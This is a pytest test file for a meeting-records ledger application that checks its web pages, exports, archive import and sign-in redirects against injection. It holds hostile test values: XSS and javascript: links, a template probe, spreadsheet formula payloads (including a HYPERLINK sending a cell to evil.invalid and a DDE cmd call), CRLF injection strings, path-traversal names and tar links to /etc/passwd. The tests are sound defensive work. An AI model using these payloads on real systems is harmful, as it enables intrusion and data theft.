"""Texts that want to be more than text: script and markup in every field that pages and exports show, formulas in tables,
line ends in calendars and headers, links that run code, archives that write elsewhere."""

from __future__ import annotations

import csv
import io
import re
import tarfile
import zipfile
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urljoin, urlsplit

import httpx
import openpyxl
import pytest
from lxml import etree, html

from depositary.acquire import Limits, Source, read_source
from depositary.errors import DocumentError
from depositary.export import EXPORTERS, Asked, DiskFolder, ZipFolder, write_export
from depositary.ledger import create_ledger, record_document
from depositary.ledger.judging import record_judgement
from depositary.ledger.plans import NewEntry, NewLine, NewPlan, record_entries, record_plan
from depositary.ledger.queries import ThingQuery, find_things
from depositary.model import Chair, Commitment, Document, Instrument, Meeting, Person, Progress
from samples import sample
from servers import Server, running

MARKUP = "\"'><script>owned()</script><img src=x onerror=owned()><x-owned onload=owned()>"
TEMPLATE = "{{ 7*191 }}{% raw %}"
FORMULA = '=HYPERLINK("https://evil.invalid/"&A1,"see here")'
FORMULAS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
LINES = "one\r\nX-OWNED:yes\r\nBEGIN:VALARM\nX-OWNED:yes"
LINK = "javascript:owned()"


def _bad(word: str) -> str:
    return f"{word} {MARKUP} {TEMPLATE} {LINES}"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A ledger whose every text field is an attack."""
    place = tmp_path_factory.mktemp("hostile") / "ledger.db"
    texts = [_bad("The summit met."), *FORMULAS, "plain"]
    with create_ledger(place) as ledger:
        for number, bad in enumerate(texts):
            meeting = Meeting(
                mechanism_en=f"Forum {bad}", mechanism=bad, ordinal=number + 1, parties=["ASEAN", bad], level="summit",
                start="2027-03-12", place=bad, status="held", chairs=[Chair(name=bad, post_en=bad)],
            )  # fmt: skip
            told = (
                meeting,
                Person(name=bad, post=bad, post_en=bad, party=bad),
                Instrument(
                    title=bad, title_en=bad, symbol=bad, kind="declaration", date="2027-03-12", status="adopted"
                ),
                Progress(instrument_en=f"Plan {bad}", done=97, total=103, unit_en=bad, word=bad, word_class="touched"),
                Commitment(
                    actors=["ASEAN", bad], force="commit", what_en=bad, due="2027-12", due_kind="by", addressees=[bad]
                ),
            )
            document, reading = sample(
                bad if number % 2 else f"d{number}{MARKUP}", f"{bad} The summit met.\nMore.", *told, title=bad, title_en=bad,
                publisher=bad, published="2027-03-13",
            )  # fmt: skip
            uri = (LINK, f"https://a.invalid/{MARKUP}", "data:text/html,<script>owned()</script>")[number % 3]
            record_document(ledger, Document(id=document.id, text=document.text, uri=uri), reading)
        with ledger.reading() as connection:
            [*meetings] = find_things(connection, ThingQuery(kind="meeting"))
        record_judgement(ledger, meetings[0].id, "correct", who=MARKUP, why=_bad("why"), field="place", value=MARKUP)
        lines = tuple(
            NewLine(number=f"1.{n}", text=bad, pillar=bad, headings=(bad,), areas=("maritime",))
            for n, bad in enumerate(texts, 1)
        )
        new = NewPlan(
            title=_bad("Plan"),
            language="en",
            source=MARKUP,
            lines=lines,
            period=(2026, 2030),
            parties=("ASEAN", MARKUP),
        )
        plan = record_plan(ledger, new, who=MARKUP).plan
        entries = [
            NewEntry(line="1.1", field="remarks", value=_bad("note")),
            NewEntry(line="1.2", field="remarks", value=FORMULA),
        ]
        record_entries(ledger, plan, entries, who=MARKUP)
    return place


def check_page(raw: bytes, where: str) -> list[str]:
    """No element or attribute of a page comes from a document. Returns: addresses the page links to."""
    assert b"1337" not in raw, f"{where}: a template in a text was worked out"
    addresses = []
    for element in html.document_fromstring(raw).iter():
        if not isinstance(element.tag, str):
            continue
        assert element.tag not in ("x-owned", "iframe", "object", "embed", "base"), where
        if element.tag == "script":
            kind = element.get("type", "")
            assert element.get("src", "").startswith("/static/") or kind == "application/ld+json", where
            assert "<" not in (element.text or ""), where
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), f"{where}: {element.tag} {name}"
            assert "owned" not in name, where
            if name in ("href", "src", "action", "formaction", "xlink:href", "cite"):
                plain = re.sub(r"[\s\x00-\x20]+", "", value).lower()
                assert not plain.startswith(("javascript:", "vbscript:", "data:text")), f"{where}: {value}"
                addresses.append(value)
    return addresses


@pytest.fixture(scope="module")
def server(hostile: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    folder = tmp_path_factory.mktemp("served")
    (folder / "ledger.db").write_bytes(b"")
    (folder / "ledger.db").unlink()
    for rest in ("", "-wal"):
        source = Path(f"{hostile}{rest}")
        if source.exists():
            (folder / f"ledger.db{rest}").write_bytes(source.read_bytes())
    with running(folder, fill=False) as found:
        yield found


def test_no_page_takes_a_text_for_markup(server: Server) -> None:
    """Every page that can be reached by links from the first, in all its languages."""
    waiting, seen = ["/", "/?lang=vi", f"/search?q={httpx.QueryParams({'q': MARKUP})['q']}", "/things/<script>"], set()
    shapes: dict[str, int] = {}
    with server.client(follow_redirects=False) as browser:
        while waiting and len(seen) < 160:
            address = waiting.pop(0)
            if address in seen:
                continue
            seen.add(address)
            answer = browser.get(address)
            assert answer.status_code < 500, address
            assert "x-owned" not in answer.headers, address
            if not answer.headers.get("content-type", "").startswith("text/html"):
                continue
            assert "script-src 'self'" in answer.headers["content-security-policy"]
            for link in check_page(answer.content, address):
                target = urljoin(str(answer.url), link)
                if target.startswith(server.address) and "/static/" not in target:
                    path = target.removeprefix(server.address).partition("#")[0]
                    shape = re.sub(r"[-\w%.]{12,}", "*", urlsplit(path).path)
                    shapes[shape] = shapes.get(shape, 0) + 1
                    if shapes[shape] < 12:
                        waiting.append(path)
    kinds = {path.split("/")[1].partition("?")[0] for path in seen}
    assert {"documents", "things", "plans", "partnerships", "contradictions"} <= kinds, kinds


@pytest.mark.parametrize("name", sorted(EXPORTERS))
def test_no_export_takes_a_text_for_more(hostile: Path, tmp_path: Path, name: str) -> None:
    out = io.BytesIO()
    with create_ledger(hostile) as ledger:
        with ledger.reading() as connection:
            meeting = find_things(connection, ThingQuery(kind="meeting"))[0].id
        asked = Asked(base="https://ledger.invalid", thing=meeting if name.startswith("briefing") else None)
        _, _, suffix = write_export(name, ledger, asked, out)
    check_file(f"export{suffix}", out.getvalue(), name)


def check_file(file: str, raw: bytes, told: str) -> None:
    """What the programs that open such files would make of it."""
    suffix = file.rpartition(".")[2].lower()
    if suffix == "zip":
        with zipfile.ZipFile(io.BytesIO(raw)) as archive:
            for member in archive.namelist():
                assert not member.startswith("/"), told
                assert ".." not in member.split("/"), told
                assert re.fullmatch(r"[-\w./ ]+", member), f"{told}: {member}"
                check_file(member, archive.read(member), f"{told} {member}")
    elif suffix in ("html", "htm"):
        check_page(raw, told)
    elif suffix == "csv":
        for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), f"{told}: {cell!r}"
                assert not cell.startswith("-") or re.fullmatch(r"-[\d.]+", cell), f"{told}: {cell!r}"
    elif suffix == "xlsx":
        book = openpyxl.load_workbook(io.BytesIO(raw))
        for sheet in book:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f" or (
                        "owned" not in str(cell.value) and "evil" not in str(cell.value)
                    ), told
                    assert cell.hyperlink is None or not str(cell.hyperlink.target).startswith(
                        ("javascript", "data")
                    ), told
    elif suffix == "docx":
        with zipfile.ZipFile(io.BytesIO(raw)) as archive:
            for member in archive.namelist():
                if member.endswith((".xml", ".rels")):
                    tree = etree.fromstring(archive.read(member))
                    assert not tree.xpath("//*[local-name()='x-owned' or local-name()='script']"), told
                    assert not [t for t in tree.xpath("//@Target") if t.startswith(("javascript", "data"))], told
    elif suffix == "ics":
        known = re.compile(rb"(?:BEGIN|END|VERSION|PRODID|CALSCALE|METHOD|UID|SUMMARY|DESCRIPTION|LOCATION|DT\w+|URL|STATUS|"
                           rb"CATEGORIES|CREATED|LAST-MODIFIED|SEQUENCE|TRANSP|NAME|COMMENT|CLASS|RELATED-TO|CONTACT|"
                           rb"ACTION|TRIGGER|X-WR-\w+|X-DEPOSITARY-[\w-]+|REFRESH-INTERVAL|SOURCE|COLOR)[;:]")  # fmt: skip
        for line in raw.replace(b"\r\n ", b"").split(b"\r\n"):
            assert not line or known.match(line), f"{told}: {line!r}"
            assert b"\n" not in line, told
            assert b"\r" not in line, told
        alarms = raw.count(b"BEGIN:VALARM\r\n")
        assert alarms == raw.count(b"ACTION:DISPLAY\r\n"), told
    elif suffix in ("xml", "graphml"):
        tree = etree.fromstring(raw)
        assert not tree.xpath("//*[local-name()='x-owned' or local-name()='script']"), told
    elif suffix in ("json", "jsonl", "jsonld"):
        assert raw


# -- what comes in ---------------------------------------------------------------------------------------------------

WANDERING = (
    "../outside.txt", "/etc/outside.txt", "a/../../outside.txt", "..\\outside.txt", "C:\\outside.txt", "\\\\host\\outside.txt",
    "a/./../../outside.txt", "outside.txt\0.html", "~/outside.txt", "file:///outside.txt",
)  # fmt: skip


def _zip(names: tuple[str, ...]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in names:
            archive.writestr(name, "The parties met in Ha Noi and agreed to meet again.")
    return out.getvalue()


def _tar(names: tuple[str, ...]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name in names:
            member = tarfile.TarInfo(name)
            member.size = 50
            archive.addfile(member, io.BytesIO(b"The parties met in Ha Noi and agreed to meet again."[:50]))
        for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE):
            member = tarfile.TarInfo("link.txt")
            member.type, member.linkname = kind, "/etc/passwd"
            archive.addfile(member)
    return out.getvalue()


@pytest.mark.parametrize("made", [("x.zip", _zip(WANDERING)), ("x.tar", _tar(WANDERING))], ids=["zip", "tar"])
def test_archives_write_nothing_and_lead_nowhere(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, made: tuple[str, bytes]
) -> None:
    monkeypatch.chdir(tmp_path)
    found = list(read_source(Source(name=made[0], id="x", data=made[1]), Limits()))
    for one in found:
        if not isinstance(one, DocumentError):
            assert "root:" not in one.text
            assert not re.search(r"[/\\]|\.\.", one.id), one.id
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("name", ["../outside", "/outside", "a/../../outside", ""])
def test_exports_stay_in_their_folder(tmp_path: Path, name: str) -> None:
    with DiskFolder(tmp_path / "out") as folder, pytest.raises(ValueError, match="folder"), folder.file(name):
        pass
    with ZipFolder(io.BytesIO()) as zipped, pytest.raises(ValueError, match="folder"), zipped.file(name):
        pass


@pytest.mark.parametrize(
    "file", ["a\r\nX-Owned: yes.txt", 'a"; filename="b.html', "../../etc/cron.d/owned.txt", "a\0b.txt", "…" * 300]
)
def test_names_of_files_sent_to_the_server(server: Server, file: str) -> None:
    with server.client(headers={"Origin": server.address}) as browser:
        sent = {"files": (file, b"Ha Noi, 12 March 2026 - The Ministers met and agreed to meet again.", "text/plain")}
        answer = browser.post("/api/v1/documents", files=sent)
        assert answer.status_code < 500, answer.text
        assert "x-owned" not in answer.headers
    outside = [path for path in Path(server.settings.data_folder).rglob("*") if path.name == "owned.txt"]
    assert outside == []


def test_redirects_after_signing_in_stay_here(server: Server) -> None:
    from depositary.web.accounts.signing import place_after

    for next_ in ("//evil.invalid/", "https://evil.invalid/", "/\\evil.invalid", "\\\\evil.invalid", "javascript:owned()",
                  "/a\r\nSet-Cookie: x=1", "/%0d%0aSet-Cookie:x", "http:evil.invalid", " //evil.invalid", "\t//evil.invalid"):  # fmt: skip
        place = place_after(next_)
        assert place.startswith("/"), next_
        assert not place.startswith(("//", "/\\")), next_
        assert "\r" not in place, next_
        assert "\n" not in place, next_
